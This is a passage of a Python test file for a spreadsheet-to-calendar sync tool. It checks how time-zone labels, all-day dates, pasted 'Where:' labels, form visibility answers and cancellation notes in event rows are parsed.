    said = [(i.row, i.column, i.severity) for i in issues if i.column in ("Start Date", "Start Time")]
    assert said == [(2, "Start Date", Severity.WARNING), (3, "Start Time", Severity.WARNING),
                    (4, "Start Date", Severity.WARNING), (4, "Start Date", Severity.WARNING),
                    (6, "Start Time", Severity.ERROR)]
    assert "converted to the city's time zone" in issues[1].problem and "America/Chicago" in issues[1].problem
    assert [i.problem for i in issues if i.row == 6] == ["'(UTC+03:00) Nowhere Time' names no time zone known here"]
    # (a README-only check) a region's time written out, Google's label, a name beside its abbreviation
    from zoneinfo import ZoneInfo

    from sheets_sync.parsing import date_and_hours
    from sheets_sync.zones import split_zone
    denver = ZoneInfo("America/Denver")
    assert [(rest, typed.abbreviation, typed.zone and typed.zone.key) for rest, typed in (
        split_zone(t, denver) for t in ("6pm Mountain Time", "6:00 PM Mountain Daylight Time", "6pm AZ time",
                                        "6pm Central", "6pm Pacific Standard Time (PST)"))] == [
        ("6pm", "Mountain Time", None), ("6:00 PM", "Mountain Daylight Time", None),
        ("6pm", "AZ time", "America/Phoenix"), ("6pm", "Central", "America/Chicago"),
        ("6pm", "PST", "America/Los_Angeles")]
    assert split_zone("Central Park 6pm", denver) == ("Central Park 6pm", None)
    with pytest.raises(ValueError, match="EST and Mountain Time name different time zones"):
        split_zone("6pm EST Mountain Time", denver)
    assert date_and_hours("Tuesday, June 8⋅6:00 – 8:00pm (Mountain Time - Denver)") == (
        "Tuesday, June 8", "6:00 – 8:00pm (Mountain Time - Denver)", None)
    assert [date_and_hours(t) for t in ("Tue 6/8/2027 All day", "6/8/2027 (all-day)", "All day")] == [
        ("Tue 6/8/2027", "", None), ("6/8/2027", "", None), None]
    # (a second README-only check) a city after the region's name, noon, Outlook's regions, an end
    # typed without the start's zone
    chicago = ZoneInfo("America/Chicago")
    assert [split_zone(t, chicago)[1].zone.key for t in (
        "6:00 – 8:00pm (Mountain Time - Phoenix)", "Noon Eastern", "6pm (UTC-05:00) Indiana (East)",
        "6pm (UTC-10:00) Hawaii")] == [
        "America/Phoenix", "America/New_York", "America/Indiana/Indianapolis", "Pacific/Honolulu"]
    rows, _ = parse(config, ("Town Hall", "8/5/2026", "6pm Mountain Time", "8pm", "Public"),
                    header=("Title", "Start Date", "Start Time", "End Time", "Visibility"))
    assert (rows[0].start.hour, rows[0].end.hour) == (20, 22)           # (New York: both in Mountain Time)


def test_a_label_pasted_before_a_place_is_not_published(config):
    """A README-only check: "Where: Riverton Public Library, Room 2" (pasted from an invitation)
    was published with its "Where:" on the page and in the feeds. The label is left out of the
    Location and Address; a colon inside a place ("Park: Soccer-10") stays."""
    header = ("Title", "Start Date", "Start Time", "Location", "Address", "Visibility")
    rows, issues = parse(config, ("Briefing", "8/5/2025", "6pm", "Where: Riverton Public Library, Room 2",
                                  "Location: 303 E Kirkwood Ave", "Public"),
                         ("Soccer", "8/5/2025", "6pm", "Hillside Park: Soccer-10", "", "Public"),
                         ("Cleanup", "8/5/2025", "6pm", "Site: Site 4", "", "Public"), header=header)
    assert [(r.location, r.address) for r in rows] == [("Riverton Public Library, Room 2", "303 E Kirkwood Ave"),
                                                       ("Hillside Park: Soccer-10", ""), ("Site 4", "")]


def test_a_forms_answers_in_more_words_and_a_cancellation_in_the_notes(config):
    """A README-only check of a Google Form tab: "Can the public attend?" answered "Yes,
    registration required", "No - staff only" or "Sí" was an unknown visibility (kept Internal:
    not published); "Anything else we should know?" opening "CANCELLED - thin ice" left the
    event published as going ahead. A typed Status still wins; a note that only mentions a
    cancellation says nothing."""
    from sheets_sync.model import Visibility
    header = ("Title", "Start Date", "Start Time", "Visibility", "Status", "Internal Notes")
    rows, issues = parse(config, ("Fair A", "8/1/2026", "6pm", "Yes, registration required", "", ""),
                         ("Fair B", "8/2/2026", "6pm", "No - staff only", "", ""),
                         ("Fair C", "8/3/2026", "6pm", "Sí", "", ""),
                         ("Fair D", "8/4/2026", "6pm", "Public", "", "CANCELLED - thin ice"),
                         ("Fair E", "8/5/2026", "6pm", "Public", "Scheduled", "CANCELLED - thin ice"),
                         ("Fair F", "8/6/2026", "6pm", "Public", "", "It was cancelled last year; on this year"),
                         ("Fair G", "8/7/2026", "6pm", "Public event", "", ""),
                         ("Fair H", "8/8/2026", "6pm", "Yes!", "", "Cancelled the rental tractor, using our own"),
                         ("Fair I", "8/9/2026", "6pm", "Public", "",
                          "Cancelled last year due to rain - fingers crossed!"),
                         header=header)
    assert [r.visibility for r in rows] == [Visibility.PUBLIC, Visibility.INTERNAL, Visibility.PUBLIC,
                                            *[Visibility.PUBLIC] * 3, Visibility.INTERNAL, *[Visibility.PUBLIC] * 2]
    assert [r.status for r in rows] == [Status.SCHEDULED] * 3 + [Status.CANCELLED] + [Status.SCHEDULED] * 5
    assert [(i.row, i.column, i.problem) for i in issues if i.column in ("Internal Notes", "Visibility")] == [
        (5, "Internal Notes", "the internal notes open with 'CANCELLED' and Status is blank: the event is taken "
                              "as Cancelled"),
        (8, "Visibility", "unknown visibility; kept Internal so it is not published (it still counts in the "
                          "figures as a community event: only rows saying Internal are internal work)")]
